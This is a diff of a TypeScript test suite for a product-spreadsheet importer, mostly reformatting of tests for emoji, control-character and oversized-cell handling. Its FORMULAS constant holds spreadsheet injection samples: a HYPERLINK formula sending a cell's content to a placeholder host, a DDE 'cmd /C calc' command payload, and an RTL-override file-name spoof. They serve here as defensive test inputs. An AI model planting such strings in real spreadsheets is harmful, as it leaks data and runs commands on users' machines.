@@ -21,7 +21,7 @@ import { snapshot, tempDir, tEn, tPt, writeCsv, writeXlsx } from '../catalog/hel
  * - C0 control characters (NUL, BEL, ESC…) are never legitimate product text: the field is
  *   refused with a row error, as Amazon would refuse it much later and less clearly.
  */
-const FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"Clique")', '+SUM(1;2)', '-2+3', '@SOMA(A1)', '=cmd|\' /C calc\'!A0'];
+const FORMULAS = ['=HYPERLINK("http://x.invalid/?q="&A1,"Clique")', '+SUM(1;2)', '-2+3', '@SOMA(A1)', "=cmd|' /C calc'!A0"];
 const RTL = 'מוצר חדש — \u202bعربي\u202c — \u202egpj.exe';
 const LEGIT: readonly (readonly string[])[] = [
   ['SKU', 'Título', 'Descrição', 'Marca', 'Preço'],
@@ -51,7 +51,7 @@ describe('hostile but legitimate strings', () => {
     expect(rows).toEqual(LEGIT.slice(1).map(([sku, title, description, brand]) => ({ sku, title, description, brand })));
   });
 
-  it('re-import unchanged from Vitrine\'s own CSV and xlsx exports', async () => {
+  it("re-import unchanged from Vitrine's own CSV and xlsx exports", async () => {
     const before = snapshot(db);
     for (const name of ['round.csv', 'round.xlsx']) {
       const file = join(dir, name);
@@ -100,7 +100,14 @@ describe('hostile but legitimate strings', () => {
   it('a SKU of 21 emoji is over the limit: refused for its row and column', async () => {
     const sku = '😀'.repeat(21);
 
-    const report = await importProducts(db, writeCsv(join(dir, 'long-emoji.csv'), [['SKU', 'Título'], [sku, 'Longo']]), { dryRun: false, t: tEn });
+    const report = await importProducts(
+      db,
+      writeCsv(join(dir, 'long-emoji.csv'), [
+        ['SKU', 'Título'],
+        [sku, 'Longo'],
+      ]),
+      { dryRun: false, t: tEn },
+    );
 
     expect(report.errors).toEqual([{ row: 2, field: 'SKU', code: 'TOO_LONG', message: 'Row 2, column "SKU": the text has 42 characters; the limit is 40.' }]);
   });
@@ -134,14 +141,26 @@ describe('hostile input that is refused', () => {
     const report = await importProducts(db, file, { dryRun: false, t: tPt });
 
     expect(snapshot(db)).toEqual(before);
-    expect(report.errors.map((e) => `${e.row}:${e.field}:${e.code}`)).toEqual(['82:Título:CONTROL_CHARACTER', '83:Descrição:CONTROL_CHARACTER', '84:SKU:CONTROL_CHARACTER']);
-    expect(report.errors[0]?.message).toBe('Linha 82, coluna "Título": o texto contém um caractere de controle invisível (U+0000). Apague-o na planilha e importe de novo.');
+    expect(report.errors.map((e) => `${e.row}:${e.field}:${e.code}`)).toEqual([
+      '82:Título:CONTROL_CHARACTER',
+      '83:Descrição:CONTROL_CHARACTER',
+      '84:SKU:CONTROL_CHARACTER',
+    ]);
+    expect(report.errors[0]?.message).toBe(
+      'Linha 82, coluna "Título": o texto contém um caractere de controle invisível (U+0000). Apague-o na planilha e importe de novo.',
+    );
   });
 
   it('a control character at the top of a CSV: the whole file is refused as not a spreadsheet', async () => {
-    const file = writeCsv(join(dir, 'binary-ish.csv'), [['SKU', 'Título'], ['B-1', 'NUL\u0000aqui']]);
+    const file = writeCsv(join(dir, 'binary-ish.csv'), [
+      ['SKU', 'Título'],
+      ['B-1', 'NUL\u0000aqui'],
+    ]);
 
-    const err = await importProducts(db, file, { dryRun: false, t: tPt }).then(() => undefined, (e: unknown) => e);
+    const err = await importProducts(db, file, { dryRun: false, t: tPt }).then(
+      () => undefined,
+      (e: unknown) => e,
+    );
 
     expect(err).toBeInstanceOf(AppError);
     expect((err as AppError).code).toBe('NOT_A_SPREADSHEET');
@@ -150,11 +169,23 @@ describe('hostile input that is refused', () => {
 
   it('a 10 MB cell: the whole file refused, xlsx past the cell limit and CSV as malformed; no crash, nothing written', async () => {
     const huge = 'ß'.repeat(10 * 1024 * 1024);
-    const xlsx = await writeXlsx(join(dir, 'huge.xlsx'), [['SKU', 'Título', 'Descrição'], ['H-1', 'Enorme', huge]]);
-    const csv = writeCsv(join(dir, 'huge.csv'), [['SKU', 'Título', 'Descrição'], ['H-1', 'Enorme', huge]]);
+    const xlsx = await writeXlsx(join(dir, 'huge.xlsx'), [
+      ['SKU', 'Título', 'Descrição'],
+      ['H-1', 'Enorme', huge],
+    ]);
+    const csv = writeCsv(join(dir, 'huge.csv'), [
+      ['SKU', 'Título', 'Descrição'],
+      ['H-1', 'Enorme', huge],
+    ]);
 
-    const xlsxError = await importProducts(db, xlsx, { dryRun: false, t: tPt }).then(() => undefined, (e: unknown) => e);
-    const csvError = await importProducts(db, csv, { dryRun: false, t: tPt }).then(() => undefined, (e: unknown) => e);
+    const xlsxError = await importProducts(db, xlsx, { dryRun: false, t: tPt }).then(
+      () => undefined,
+      (e: unknown) => e,
+    );
+    const csvError = await importProducts(db, csv, { dryRun: false, t: tPt }).then(
+      () => undefined,
+      (e: unknown) => e,
+    );
 
     expect(xlsxError).toBeInstanceOf(AppError);
     expect((xlsxError as AppError).code).toBe('SPREADSHEET_CELL_TOO_LONG');
